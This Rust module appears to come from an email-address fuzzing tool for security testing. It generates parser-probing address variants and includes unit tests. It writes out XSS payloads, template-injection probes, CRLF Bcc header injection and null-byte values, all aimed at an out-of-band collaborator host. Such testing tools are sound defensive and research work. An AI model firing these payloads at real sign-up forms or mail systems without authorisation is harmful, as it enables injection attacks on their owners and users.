//! Parser-robustness forms: atext specials, length limits, code point
//! overflow, injection payloads and whitespace.

use super::{TemplateContext, comment};
use crate::encoding::unicode_overflow as overflow_aliases;

/// RFC 5322 `atext` specials other than `+`, `-` and `_`.
const ATEXT_SPECIALS: &[char] = &[
    '!', '#', '$', '%', '&', '\'', '*', '/', '=', '?', '^', '`', '{', '|', '}', '~',
];

/// Characters whose aliases are worth probing: separators, comment and
/// angle-address delimiters, parameter syntax and NUL.
const STRUCTURAL_CHARS: &[char] = &['@', '(', ')', ';', '<', '=', '>', '\0'];

/// Markup and expression payloads. None contains `)` so each can ride in a
/// comment.
const MARKUP_PAYLOADS: &[&str] = &[
    "<svg/onload=alert`1`>",
    "\"><svg/onload=confirm`1`>",
    "<img/src/onerror=alert`1`>",
    "<script>alert`1`</script>",
    "javascript:alert`1`",
    "{{7*7}}",
    "${7*7}",
];

const MAX_LOCAL_PART: usize = 64;
const MAX_LABEL: usize = 63;

pub(super) fn special_characters(ctx: &TemplateContext<'_>) -> Vec<String> {
    ATEXT_SPECIALS
        .iter()
        .map(|special| format!("{special}user@{}", ctx.collaborator))
        .collect()
}

/// Forms at the RFC length limits and one past them.
pub(super) fn length_boundary(ctx: &TemplateContext<'_>) -> Vec<String> {
    let c = ctx.collaborator;
    vec![
        format!("{}@{c}", "a".repeat(MAX_LOCAL_PART)),
        format!("user@{}.com", "a".repeat(MAX_LABEL)),
        format!("test@{}.{c}", "a".repeat(50)),
        format!("{}@{c}", "a".repeat(MAX_LOCAL_PART + 1)),
        format!("user@{}.com", "a".repeat(MAX_LABEL + 1)),
        format!("user@{}.{c}", "a".repeat(MAX_LABEL)),
    ]
}

/// Overflow aliases of structural characters, raw, quoted and
/// comment-carried. The `@` aliases also replace the separator itself.
pub(super) fn unicode_overflow(ctx: &TemplateContext<'_>) -> Vec<String> {
    let (c, t) = (ctx.collaborator, ctx.target);

    let mut variants = Vec::new();
    for &structural in STRUCTURAL_CHARS {
        for alias in overflow_aliases(structural) {
            variants.push(format!("user{alias}@{c}"));
            variants.push(format!(r#""user{alias}"@{c}"#));
            variants.push(format!("user{}@{c}", comment(&alias)));
            if structural == '@' {
                variants.push(format!("user{alias}{c}"));
                variants.push(format!("user{alias}{c}@{t}"));
            }
        }
    }
    variants
}

/// Markup, template, CRLF and NUL payloads.
///
/// Raw forms break the address grammar and are rejected by the validity
/// filter; the comment-carried forms keep the address valid.
pub(super) fn injection(ctx: &TemplateContext<'_>) -> Vec<String> {
    let c = ctx.collaborator;

    let mut variants = Vec::new();
    for payload in MARKUP_PAYLOADS {
        variants.push(format!("user+{payload}@{c}"));
        variants.push(format!(r#""{payload}"@{c}"#));
        variants.push(format!("user@{c}{payload}"));
        variants.push(format!("user{}@{c}", comment(payload)));
        variants.push(format!("{}user@{c}", comment(payload)));
        variants.push(format!("user@{}{c}", comment(payload)));
    }

    variants.extend([
        // header injection
        format!("user@{c}\r\nBcc:user@{c}"),
        format!("user@{c}%0d%0aBcc:user@{c}"),
        format!("user{}@{c}", comment(&format!("\r\nBcc:user@{c}"))),
        // null bytes
        format!("user\0@{c}"),
        format!("user@{c}\0"),
        format!("user%00@{c}"),
        format!("user@{c}%00.{}", ctx.target),
        format!("user{}@{c}", comment("\0")),
        format!("user{}@{c}", comment("%00")),
    ]);

    variants
}

/// Space and tab inside quoted local parts and around unquoted ones.
pub(super) fn whitespace(ctx: &TemplateContext<'_>) -> Vec<String> {
    let c = ctx.collaborator;
    vec![
        format!(r#""user test"@{c}"#),
        format!(r#"" user"@{c}"#),
        format!(r#""user "@{c}"#),
        format!(r#"" user "@{c}"#),
        format!("\"\tuser\"@{c}"),
        format!("\"user\t\"@{c}"),
        format!("\"\tuser\t\"@{c}"),
        format!("user @{c}"),
        format!(" user@{c}"),
        format!("user@ {c}"),
        format!("user@{c} "),
        format!("user\t@{c}"),
        format!("user @ {c}"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> TemplateContext<'static> {
        TemplateContext::new("abc.oastify.com", None)
    }

    #[test]
    fn test_special_characters_prefix_user() {
        let variants = special_characters(&ctx());
        assert_eq!(variants.len(), 16);
        assert!(variants.contains(&"`user@abc.oastify.com".to_string()));
        assert!(variants.iter().all(|v| v.ends_with("user@abc.oastify.com")));
    }

    #[test]
    fn test_length_boundary_sizes() {
        let variants = length_boundary(&ctx());
        let local = variants[0].split('@').next().unwrap();
        assert_eq!(local.len(), 64);

        let label = variants[1]
            .trim_start_matches("user@")
            .trim_end_matches(".com");
        assert_eq!(label.len(), 63);
    }

    #[test]
    fn test_overflow_contains_at_alias_separator() {
        let variants = unicode_overflow(&ctx());
        assert!(variants.contains(&"user\u{140}abc.oastify.com".to_string()));
        assert!(variants.contains(&"user\u{140}abc.oastify.com@example.com".to_string()));
        assert!(variants.contains(&"user(\u{128})@abc.oastify.com".to_string()));
    }

    #[test]
    fn test_injection_has_svg_payload() {
        let variants = injection(&ctx());
        assert!(variants.iter().any(|v| v.contains("<svg")));
        assert!(variants.contains(&"user(<svg/onload=alert`1`>)@abc.oastify.com".to_string()));
    }

    #[test]
    fn test_markup_payloads_fit_in_comments() {
        for payload in MARKUP_PAYLOADS {
            assert!(!payload.contains(')'), "{payload}");
        }
    }

    #[test]
    fn test_whitespace_forms() {
        let variants = whitespace(&ctx());
        assert!(variants.contains(&"\"\tuser\t\"@abc.oastify.com".to_string()));
        assert!(variants.contains(&"user @abc.oastify.com".to_string()));
    }
}
